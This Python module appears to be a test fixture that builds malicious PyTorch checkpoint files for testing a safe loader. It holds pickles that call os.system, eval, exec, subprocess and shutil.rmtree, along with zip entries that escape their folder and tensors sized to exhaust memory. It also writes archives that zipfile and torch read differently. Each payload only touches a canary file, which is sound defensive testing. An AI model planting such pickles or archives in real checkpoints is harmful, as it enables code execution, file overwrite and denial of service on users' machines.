"""Malicious checkpoint files: pickles that run code, archives that leave their folder, sizes that fill the memory."""

import importlib
import io
import os
import pickle
import shutil
import struct
import subprocess
import tarfile
import webbrowser
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any, BinaryIO

import numpy as np
import torch

Make = Callable[[Path, Path], object]
"""Write a malicious file to the first path; if its code runs, the second path appears."""


class Calls:
    """An object whose unpickling makes a call."""

    def __init__(self, called: Callable[..., Any], *arguments: Any):
        self.called, self.arguments = called, arguments

    def __reduce__(self) -> Any:
        return self.called, self.arguments


class Strange:
    """An object of a class that torch does not know; it is harmless."""


def archive(
    path: Path | BinaryIO,
    pickled: bytes,
    parts: dict[str, bytes] | None = None,
    root: str = "x",
    compression: int = 0,
) -> None:
    """Write an archive around any pickle, as torch.save does."""
    with zipfile.ZipFile(path, "w", compression) as file:
        for name, data in {"data.pkl": pickled, "version": b"3\n", **(parts or {})}.items():
            file.writestr(f"{root}/{name}", data)


def calling(called: Callable[..., Any], *arguments: Any) -> Make:
    """Return a maker of a state dict in which one value is a call."""

    def make(path: Path, canary: Path) -> None:
        call = Calls(called, *(_with_canary(argument, canary) for argument in arguments))
        archive(path, pickle.dumps({"a": call}, protocol=2))

    return make


def _with_canary(argument: Any, canary: Path) -> Any:
    return argument.replace("CANARY", str(canary)) if isinstance(argument, str) else argument


def named(module: str, name: str, *arguments: str) -> Make:
    """Return a maker of a pickle that calls module.name on strings; the function need not exist."""

    def make(path: Path, canary: Path) -> None:
        strings = b"".join(_text(_with_canary(argument, canary)) for argument in arguments)
        archive(path, b"\x80\x02}" + _text("a") + f"c{module}\n{name}\n".encode() + b"(" + strings + b"tRs.")

    return make


def _text(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _storage(n: int, key: str = "0", kind: str = "FloatStorage") -> bytes:
    return b"(" + _text("storage") + f"ctorch\n{kind}\n".encode() + _text(key) + _text("cpu") + _number(n) + b"tQ"


def _number(n: int) -> bytes:
    return b"J" + struct.pack("<i", n) if -(2**31) <= n < 2**31 else b"\x8a\x08" + struct.pack("<q", n)


def tensor(
    n_claimed: int, shape: tuple[int, ...], stride: tuple[int, ...], n_bytes: int = 4, **keywords: Any
) -> Make:
    """Return a maker of one tensor that may claim more numbers, or a larger shape, than its bytes hold."""

    def make(path: Path, canary: Path) -> None:
        sizes = [b"(" + b"".join(map(_number, axes)) + b"t" for axes in (shape, stride)]
        body = b"ctorch._utils\n_rebuild_tensor_v2\n(" + _storage(n_claimed, **keywords) + _number(0) + sizes[0]
        body += sizes[1] + b"\x89ccollections\nOrderedDict\n)RtR"
        archive(path, b"\x80\x02}" + _text("embed.W_E") + body + b"s.", {"data/0": bytes(n_bytes)})

    return make


def plain(body: bytes, parts: dict[str, bytes] | None = None, root: str = "x", compression: int = 0) -> Make:
    """Return a maker of an archive around a handwritten pickle."""
    return lambda path, canary: archive(path, body, parts, root, compression)


def _with_entry(name: str, mode: int = 0) -> Make:
    """Return a maker of a sound archive with one more entry."""

    def make(path: Path, canary: Path) -> None:
        torch.save({"a": torch.zeros(2)}, path)
        with zipfile.ZipFile(path, "a") as file:
            entry = zipfile.ZipInfo(name.replace("CANARY", str(canary)))
            entry.external_attr = mode << 16
            file.writestr(entry, "out")

    return make


def _twice(path: Path, canary: Path) -> None:
    import warnings

    torch.save({"a": torch.zeros(2)}, path)
    with zipfile.ZipFile(path, "a") as file, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        name = next(name for name in file.namelist() if name.endswith("data.pkl"))
        file.writestr(name, pickle.dumps(Calls(os.system, f"touch {canary}"), protocol=2))


def _cut(path: Path, canary: Path) -> None:
    torch.save({"a": torch.zeros(5000)}, path)
    path.write_bytes(path.read_bytes()[:-3000])


def _lying_directory(path: Path, canary: Path) -> None:
    """Write an archive whose directory claims 2 GB for each part."""
    torch.save({"a": torch.zeros(2)}, path)
    data = bytearray(path.read_bytes())
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        data[at + 20 : at + 28] = struct.pack("<II", 2**31 - 1, 2**31 - 1)
    path.write_bytes(data)


def _legacy(path: Path, canary: Path) -> None:
    torch.save({"a": torch.zeros(2)}, path, _use_new_zipfile_serialization=False)


def _tar(path: Path, canary: Path) -> None:
    with tarfile.open(path, "w") as file:
        for name in ("sys_info", "pickle", "../x"):
            data = pickle.dumps(Calls(os.system, f"touch {canary}"), protocol=2)
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            file.addfile(entry, io.BytesIO(data))


def _module(path: Path, canary: Path) -> None:
    torch.save(torch.nn.Linear(2, 2), path)


def _object(path: Path, canary: Path) -> None:
    torch.save({"model": {"a": torch.zeros(2)}, "config": Strange()}, path)


def _doubled(innermost: bytes, close: bytes, n: int) -> bytes:
    """Return the instructions for an object that contains itself twice, n deep; `close` joins two objects."""
    body = innermost
    for i in range(n):
        body += b"q" + bytes([i]) + b"h" + bytes([i]) + close
    return body


def _lists(n: int) -> bytes:
    body = b"]"
    for i in range(n):
        body = b"](" + body + b"q" + bytes([i]) + b"h" + bytes([i]) + b"e"
    return body


def _grown(path: Path, canary: Path) -> None:
    """Write a tensor that is emptied and then set to 12 GB, for which torch allocates memory."""
    small = b"ctorch._utils\n_rebuild_tensor_v2\n(" + _storage(1) + _number(0) + b"K\x01\x85K\x01\x85\x89"
    small += b"ccollections\nOrderedDict\n)RtR"
    state = b"(" + small + b")b" + _number(0) + _number(3 * 10**9) + b"\x85K\x01\x85tb"
    archive(path, b"\x80\x02}" + _text("embed.W_E") + small + state + b"s.", {"data/0": bytes(4)})


def saved(content: Any) -> Make:
    """Return a maker that saves an object by torch.save."""
    return lambda path, canary: torch.save(content, path)


def _expanded(*shape: int, dtype: torch.dtype = torch.float32) -> torch.Tensor:
    """Return a tensor of any shape that stores one number."""
    return torch.zeros(1, dtype=dtype).expand(*shape)


SEEN, LOADED = (b"\x80\x02}" + _text(key) + b"Ns." for key in ("seen", "loaded in its place"))
"""Pickles of a dict with one key: zipfile reads the first in `TWO_READINGS`, torch the second."""


def _body(pickled: bytes, shift: int = 0) -> tuple[bytes, int, int]:
    """Return an archive without its end record, and the offset (moved by `shift`) and bytes of its directory."""
    file = io.BytesIO()
    archive(file, pickled)
    data = bytearray(file.getvalue())
    end = data.rindex(b"PK\5\6")
    n_bytes, first = struct.unpack("<II", data[end + 12 : end + 20])
    at = first
    while (at := data.find(b"PK\1\2", at, end)) >= 0:
        data[at + 42 : at + 46] = struct.pack("<I", struct.unpack("<I", data[at + 42 : at + 46])[0] + shift)
        at += 46
    return bytes(data[:end]), first + shift, n_bytes


def _end(n_bytes: int, first: int, n: int = 2) -> bytes:
    return struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, n, n, n_bytes, first, 0)


def _long_end(n_bytes: int, first: int) -> bytes:
    return struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, 2, 2, n_bytes, first)


def _two_directories(path: Path, canary: Path) -> None:
    """Write an archive whose end record points to one directory and directly follows another."""
    loaded, stated, n_bytes = _body(LOADED)
    seen, _, _ = _body(SEEN, len(LOADED) - len(SEEN))
    path.write_bytes(loaded + seen + _end(n_bytes, stated))


def _two_ends(path: Path, canary: Path) -> None:
    """Write an archive with two zip64 end records: one that the locator points to, and one directly before it."""
    loaded, loaded_offset, loaded_bytes = _body(LOADED)
    first = loaded + _long_end(loaded_bytes, loaded_offset)
    seen, seen_offset, seen_bytes = _body(SEEN, len(first))
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, len(loaded), 1)
    end = _long_end(seen_bytes, seen_offset) + locator + _end(2**32 - 1, 2**32 - 1, 2**16 - 1)
    path.write_bytes(first + seen + end)


def _in_front(path: Path, canary: Path) -> None:
    hidden, _, _ = _body(LOADED)
    seen, first, n_bytes = _body(SEEN, len(hidden))
    path.write_bytes(hidden + seen + _end(n_bytes, first))


def _comment(path: Path, canary: Path) -> None:
    archive(path, SEEN)
    with zipfile.ZipFile(path, "a") as file:
        file.comment = b"more"


TWO_READINGS: dict[str, Make] = {"two directories": _two_directories, "two ends": _two_ends}
"""Archives that zipfile and torch read differently."""


def _raw(pickled: Callable[[Path], bytes]) -> Make:
    return lambda path, canary: path.write_bytes(pickled(canary))


_RUN = "__import__('pathlib').Path('CANARY').touch()"
SHAPES: dict[str, Make] = {
    **TWO_READINGS,
    "an archive after another": _in_front,
    "a comment": _comment,
    "os.system": calling(os.system, "touch CANARY"),
    "os.system without a zip": _raw(lambda canary: pickle.dumps(Calls(os.system, f"touch {canary}"), protocol=2)),
    "os.system in protocol 4": plain(pickle.dumps({"a": os.system}, protocol=4)),
    "builtins.eval": calling(eval, _RUN),
    "builtins.exec": calling(exec, _RUN),
    "eval as Python 2 named it": named("__builtin__", "eval", _RUN),
    "builtins.open": calling(open, "CANARY", "w"),
    "builtins.getattr": calling(getattr, "x", "__class__"),
    "builtins.bytearray of 8 GB": calling(bytearray, 2**33),
    "subprocess": calling(subprocess.Popen, ("touch", "CANARY")),
    "importlib": calling(importlib.import_module, "this"),
    "shutil": calling(shutil.rmtree, "CANARY"),
    "Path.mkdir": calling(Path.mkdir, "CANARY"),
    "webbrowser.open": calling(webbrowser.open, "file:///CANARY"),
    "torch.hub.load": named("torch.hub", "load", "nobody/nothing", "x"),
    "torch.load": named("torch", "load", "CANARY"),
    "torch.jit.load": named("torch.jit", "load", "CANARY"),
    "runpy": named("runpy", "run_path", "CANARY"),
    "dill": named("dill._dill", "_create_function", _RUN),
    "cloudpickle": named("cloudpickle.cloudpickle", "_make_function", _RUN),
    "numpy.load": named("numpy", "load", "CANARY"),
    "numpy runstring": named("numpy.testing._private.utils", "runstring", _RUN, "x"),
    "an array of objects": plain(pickle.dumps({"a": np.array([Calls(os.system, "true"), 1], object)}, protocol=2)),
    "a zlib codec": named("_codecs", "encode", "x", "zlib"),
    "an INST instruction": plain(b"(S'touch CANARY'\nios\nsystem\n."),
    "an OBJ instruction": plain(b"(cos\nsystem\nS'true'\no."),
    "an extension code": plain(b"\x80\x02\x82\x01."),
    "a call of a string": plain(b"\x80\x02" + _text("x") + b")R."),
    "an empty stack": plain(b"\x80\x02R."),
    "an empty memo": plain(b"\x80\x02h\x07."),
    "a tuple without a mark": plain(b"\x80\x02t."),
    "a pickle without an end": plain(b"\x80\x02}"),
    "an empty pickle": plain(b""),
    "a whole module": _module,
    "an unknown class": _object,
    "a sparse tensor": named("torch._utils", "_rebuild_sparse_tensor", "x", "y"),
    "a meta tensor": named("torch._utils", "_rebuild_meta_tensor_no_storage", "x"),
    "a tensor subclass": named("torch._tensor", "_rebuild_from_type_v2", "x"),
    "tuples of tuples": plain(b"\x80\x02}" + _doubled(b")", b"\x86", 60) + b"Ns."),
    "a tuple 900,000 deep": plain(b"\x80\x02})" + b"\x85" * 900_000 + b"Ns."),
    "lists of lists": plain(b"\x80\x02}(" + _text("state_dicts") + b"]}a" + _text("steps") + _lists(60) + b"u."),
    "lists of lists as a model": plain(b"\x80\x02}" + _text("model") + _lists(60) + b"s."),
    "two million instructions": plain(b"\x80\x02" + b"N" * 2_000_000 + b"."),
    "a pickle of 17 MB": plain(b"\x80\x02" + b"X" + struct.pack("<I", 17 * 2**20) + bytes(17 * 2**20) + b"."),
    "4 TB in a storage": tensor(2**40, (2**40,), (1,)),
    "a tensor that grows": _grown,
    "expanded train_indices": saved({"model": {}, "train_indices": _expanded(10**13, dtype=torch.int64)}),
    "expanded steps": saved({"state_dicts": [{}], "steps": _expanded(10**13, dtype=torch.int64)}),
    "an expanded W_Q": saved(
        {"blocks.0.attn.W_Q": _expanded(10**6, 10**6, 1), "blocks.0.attn.W_O": torch.zeros(16, 16)}
    ),
    "an expanded W_O": saved({"blocks.0.attn.W_O": _expanded(10**13, 4)}),
    "a large shape of size 0": saved(
        {"blocks.0.attn.W_Q": torch.zeros(10**6, 10**6, 0), "blocks.0.attn.W_O": torch.zeros(10**13, 0)}
    ),
    "a list in itself": plain(b"\x80\x02}" + _text("model") + b"]q\0h\0as."),
    "a negative storage": tensor(-1, (1,), (1,)),
    "a missing storage": tensor(1, (1,), (1,), key="../0"),
    "an untyped storage": tensor(1, (1,), (1,), kind="UntypedStorage"),
    "a view beyond its storage": tensor(1, (1000,), (1,)),
    "4 TB by stride 0": tensor(1, (2**20, 2**20), (0, 0)),
    "a name with ../": _with_entry("../CANARY"),
    "an absolute name": _with_entry("CANARY"),
    "a name with /../../": _with_entry("archive/../../x"),
    "a symbolic link": _with_entry("archive/data/7x", 0o120777),
    "a part twice": _twice,
    "a compressed gigabyte": plain(b"\x80\x02}.", {"data/0": bytes(2**26)}, compression=zipfile.ZIP_DEFLATED),
    "a false directory": _lying_directory,
    "TorchScript": plain(b"\x80\x02}.", {"constants.pkl": b"\x80\x02).", "code/__torch__.py": b"import os"}),
    "a truncated file": _cut,
    "the format before torch 1.6": _legacy,
    "the tar format": _tar,
    "an empty file": lambda path, canary: path.write_bytes(b""),
    "four bytes": lambda path, canary: path.write_bytes(b"PK\x03\x04"),
    "nested ordered dicts": plain(pickle.dumps(OrderedDict(a=OrderedDict()), protocol=2)),
}
